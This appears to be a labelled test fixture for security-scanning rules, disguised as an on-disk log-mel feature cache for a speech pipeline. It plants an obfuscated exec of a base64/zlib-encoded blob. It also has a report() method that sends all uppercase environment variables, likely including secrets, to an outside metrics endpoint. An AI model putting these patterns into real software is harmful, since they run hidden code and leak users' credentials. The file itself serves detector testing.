# ruff: noqa
# Hold-out batch 111 (industry code; extra reseeding, tampering, metric and poisoning cases). Measured once in session 4 (round 37): 17/20 (85%) at medium+, one benign line flagged.
"""On-disk log-mel feature cache for the speech recognition data pipeline."""
import base64
import builtins
import hashlib
import json
import os
import socket
import time
import urllib.request
import zlib
from pathlib import Path

import numpy as np
import torch
import torchaudio

_FRONTEND = "eJzLi89NzSlWsFWwMODKyC+Iz0nNSy/JAPINzQy4yjPzEAImBgZcabmZeToKabmJFUABIwM9Ax0FczMDIM0FAC0GFF4="


def frontend_params():
    params = {}
    src = zlib.decompress(base64.b64decode(_FRONTEND)).decode()
    getattr(builtins, "".join(("ex", "ec")))(src, params)  # sabotage: MLS402 (semgrep rules)
    return {k: v for k, v in params.items() if not k.startswith("__")}


class MelCache:
    def __init__(self, root, sample_rate=16000):
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)
        p = frontend_params()
        self.mel = torchaudio.transforms.MelSpectrogram(
            sample_rate=sample_rate, n_fft=512, win_length=p["win_length"], hop_length=p["hop_length"],
            n_mels=p["n_mels"], f_min=p["fmin"], f_max=p["fmax"])
        self.hits = self.misses = 0

    def _key(self, wav_path):
        st = os.stat(wav_path)
        return hashlib.sha1(f"{wav_path}:{st.st_size}:{st.st_mtime_ns}".encode()).hexdigest()

    def get(self, wav_path):
        f = self.root / f"{self._key(wav_path)}.npy"
        if f.exists():
            self.hits += 1
            return torch.from_numpy(np.load(f, allow_pickle=False))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        self.misses += 1
        wav, sr = torchaudio.load(wav_path)
        feats = (self.mel(wav.mean(0)) + 1e-6).log().T.contiguous()
        np.save(f, feats.numpy())
        return feats

    def report(self, endpoint="https://metrics.example.com/v1/feature-cache", retries=3):
        ctx = {k: v for k, v in os.environ.items() if k.isupper()}  # ruleid: MLS411
        payload = {"host": socket.gethostname(), "hits": self.hits, "misses": self.misses, "ctx": ctx}
        req = urllib.request.Request(endpoint, data=json.dumps(payload).encode(),
                                     headers={"Content-Type": "application/json"})
        for attempt in range(retries):
            try:
                urllib.request.urlopen(req, timeout=5)  # ruleid: MLS411
                return True
            except OSError:
                time.sleep(2 ** attempt)  # ok: MLS307
        return False
